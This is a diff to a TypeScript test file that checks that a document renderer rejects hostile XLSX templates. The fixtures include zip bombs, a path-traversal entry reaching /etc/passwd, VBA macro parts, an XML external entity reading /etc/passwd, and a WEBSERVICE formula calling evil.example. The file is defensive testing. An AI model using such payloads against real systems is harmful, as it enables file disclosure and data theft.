@@ -1,7 +1,7 @@
 import { createServer } from 'node:http';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { DocumentRenderer, TemplateLocale } from '../../ports/document-renderer.js';
-import { buildArchive, buildDocx, docxParagraph } from './build-archive-for-tests.js';
+import { buildArchive, buildDocx, docxParagraph, type ArchivePart } from './build-archive-for-tests.js';
 import { openDocumentRenderer } from './open-document-renderer.js';
 
 const locale: TemplateLocale = { timeZone: 'Europe/Moscow', dateFormat: 'DD.MM.YYYY', currencyCode: 'RUB' };
@@ -150,6 +150,78 @@ describe('a hostile DOCX template is refused', () => {
     });
 
     expect((await rendering).unknownVariables).toEqual([]);
+  });
+});
+
+/** A workbook of one sheet, with parts added to it. */
+function workbook(sheet: string, parts: readonly ArchivePart[] = []): Uint8Array {
+  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+  return buildArchive([
+    { name: '[Content_Types].xml', content: '<Types/>' },
+    { name: 'xl/workbook.xml', content: `<workbook xmlns="${main}"/>` },
+    {
+      name: 'xl/worksheets/sheet1.xml',
+      content: `<worksheet xmlns="${main}"><sheetData><row r="1">${sheet}</row></sheetData></worksheet>`,
+    },
+    ...parts,
+  ]);
+}
+
+const text = (content: string) => `<c r="A1" t="inlineStr"><is><t>${content}</t></is></c>`;
+
+describe('a hostile XLSX template is refused', () => {
+  it.each<readonly [string, string, Uint8Array]>([
+    ['a zip bomb', 'archive_too_large', workbook(text('x'), [{ name: 'xl/media/image1.png', content: zeros }])],
+    [
+      'a zip bomb that lies about its size',
+      'archive_invalid',
+      workbook(text('x'), [{ name: 'xl/media/image1.png', content: zeros, declaredSize: 1000 }]),
+    ],
+    ['a path that climbs out', 'path_traversal', workbook(text('x'), [{ name: 'xl/../../etc/passwd', content: 'x' }])],
+    ['a macro', 'macros', workbook(text('x'), [{ name: 'xl/vbaProject.bin', content: 'x' }])],
+    ['a macro sheet of old', 'macros', workbook(text('x'), [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }])],
+    [
+      'an external entity',
+      'external_entity',
+      workbook(text('x'), [
+        { name: 'xl/styles.xml', content: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
+      ]),
+    ],
+    [
+      'another workbook that is linked',
+      'external_reference',
+      workbook(text('x'), [{ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }]),
+    ],
+    ['a data connection', 'external_reference', workbook(text('x'), [{ name: 'xl/connections.xml', content: '<x/>' }])],
+    [
+      'a formula that asks a server',
+      'external_reference',
+      workbook('<c r="A1"><f>WEBSERVICE("https://evil.example")</f></c>'),
+    ],
+    [
+      'sections nested without end',
+      'too_deep',
+      workbook(text('{{#items}}'.repeat(60) + 'x' + '{{/items}}'.repeat(60))),
+    ],
+  ])('%s (%s)', async (_, reason, content) => {
+    const template = { format: 'xlsx', content } as const;
+
+    await expect(renderer.inspectTemplate({ template, knownPaths: [] })).rejects.toMatchObject({
+      code: 'template_error',
+      reason,
+    });
+  });
+
+  it('rows that multiply without end', async () => {
+    const items = Array.from({ length: 300 }, (_, index) => ({ name: String(index) }));
+    const template = {
+      format: 'xlsx',
+      content: workbook(text('{{#items}}'.repeat(6) + '{{name}}' + '{{/items}}'.repeat(6))),
+    } as const;
+
+    const rendering = renderer.renderTemplate({ template, values: { items }, output: 'xlsx', locale });
+
+    await expect(rendering).rejects.toMatchObject({ code: 'template_error', reason: 'too_large' });
   });
 });
 
